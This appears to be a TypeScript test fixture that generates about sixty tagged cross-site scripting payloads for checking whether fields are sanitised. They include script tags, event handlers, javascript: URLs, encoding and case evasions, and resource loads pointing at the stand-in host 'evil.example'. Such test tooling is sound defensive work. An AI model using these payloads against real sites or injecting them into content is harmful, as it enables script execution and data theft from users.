/** Where a payload would send what it finds. Every name but the page's own leads to the same listening socket. */
export const FOREIGN_HOST = 'evil.example';

/** `mark` names the payload and its field: it is told when the payload runs, and where it asks for something. */
type Payload = (mark: string) => string;

const run = (mark: string): string => `__run('${mark}')`;
/** Plain HTTP, so that a request is seen as one and not as a handshake. */
const away = (mark: string): string => `http://${FOREIGN_HOST}/${mark}`;

/** Scripts, handlers, frames, styles, links and templates, as they are written to be taken for text. */
const PAYLOADS: readonly Payload[] = [
  (mark) => `<script>${run(mark)}</script>`,
  (mark) => `<script src="${away(mark)}"></script>`,
  (mark) => `</title><script>${run(mark)}</script>`,
  (mark) => `</textarea><script>${run(mark)}</script>`,
  (mark) => `"><script>${run(mark)}</script>`,
  (mark) => `'><img src=x onerror="${run(mark)}">`,
  (mark) => `<img src=x onerror="${run(mark)}">`,
  (mark) => `<img src="${away(mark)}">`,
  (mark) => `<img srcset="${away(mark)} 2x">`,
  (mark) => `<IMG SRC=x OnErRoR="${run(mark)}">`,
  (mark) => `<img/src=x/onerror="${run(mark)}">`,
  (mark) => `<img src=x onerror=&#95;_run(&#39;${mark}&#39;)>`,
  (mark) => `<svg onload="${run(mark)}"></svg>`,
  (mark) => `<svg><script>${run(mark)}</script></svg>`,
  (mark) => `<svg><image href="${away(mark)}"/></svg>`,
  (mark) => `<svg><animate onbegin="${run(mark)}" attributeName=x dur=1s></svg>`,
  (mark) => `<svg><use href="${away(mark)}#x"/></svg>`,
  (mark) => `<math><mtext><table><mglyph><style><img src=x onerror="${run(mark)}">`,
  (mark) => `<video src=x onerror="${run(mark)}"></video>`,
  (mark) => `<video poster="${away(mark)}"></video>`,
  (mark) => `<audio src="${away(mark)}" autoplay></audio>`,
  (mark) => `<source src=x onerror="${run(mark)}">`,
  (mark) => `<details open ontoggle="${run(mark)}">x</details>`,
  (mark) => `<input autofocus onfocus="${run(mark)}">`,
  (mark) => `<select autofocus onfocus="${run(mark)}"></select>`,
  (mark) => `<textarea autofocus onfocus="${run(mark)}"></textarea>`,
  (mark) => `<marquee onstart="${run(mark)}">x</marquee>`,
  (mark) => `<body onload="${run(mark)}">`,
  (mark) => `<iframe srcdoc="<script>parent.${run(mark)}</script>"></iframe>`,
  (mark) => `<iframe src="javascript:parent.${run(mark)}"></iframe>`,
  (mark) => `<iframe src="${away(mark)}"></iframe>`,
  (mark) => `<object data="${away(mark)}"></object>`,
  (mark) => `<object data="javascript:${run(mark)}"></object>`,
  (mark) => `<embed src="${away(mark)}">`,
  (mark) => `<link rel=stylesheet href="${away(mark)}">`,
  (mark) => `<link rel=prefetch href="${away(mark)}">`,
  (mark) => `<link rel=preload as=image href="${away(mark)}">`,
  (mark) => `<style>@import url(${away(mark)});</style>`,
  (mark) => `<style>*{background:url(${away(mark)})!important}</style>`,
  (mark) => `<p style="background:url(${away(mark)})">x</p>`,
  (mark) => `<style onload="${run(mark)}"></style>`,
  (mark) => `<form action="${away(mark)}"><button autofocus>x</button></form>`,
  (mark) => `<a href="javascript:${run(mark)}">x</a>`,
  (mark) => `<a href="${away(mark)}" ping="${away(mark)}">x</a>`,
  (mark) => `<noscript><p title="</noscript><img src=x onerror=${run(mark)}>">`,
  (mark) => `<template><script>${run(mark)}</script></template>`,
  (mark) => `<!--><img src=x onerror="${run(mark)}">-->`,
  (mark) => `<div style="width:expression(${run(mark)})">x</div>`,
  (mark) => `${mark} [x](javascript:${run(mark)})`,
  (mark) => `${mark} [x](JaVaScRiPt:${run(mark)} "x")`,
  (mark) => `${mark} ![x](${away(mark)})`,
  (mark) => `${mark} ![x][r]\n\n[r]: ${away(mark)}`,
  (mark) => `<javascript:${run(mark)}>`,
  (mark) =>
    `[x](data:text/html;base64,${Buffer.from(`<script>${run(mark)}</script>`).toString('base64')}) ${mark}`,
  (mark) => `javascript:${run(mark)}`,
  (mark) => `{{constructor.constructor("${run(mark)}")()}}`,
  (mark) => `\${${run(mark)}}`,
  (mark) => `');${run(mark)};//`,
  (mark) => `\u2028${run(mark)}\u2029`,
  (mark) => `<sc\u0000ript>${run(mark)}</script>`,
  (mark) => `＜script＞${run(mark)}＜/script＞<img src=x onerror="${run(mark)}">`,
];

export const PAYLOAD_COUNT = PAYLOADS.length;

/** A letter for each field, so that what is seen, run or fetched says from which one it came. */
export const markOf = (index: number, field: string): string => `p35x${index}x${field}`;

export const payload = (index: number, field: string): string =>
  PAYLOADS[index]?.(markOf(index, field)) ?? '';

export const payloads = (field: string): readonly string[] =>
  PAYLOADS.map((make, index) => make(markOf(index, field)));
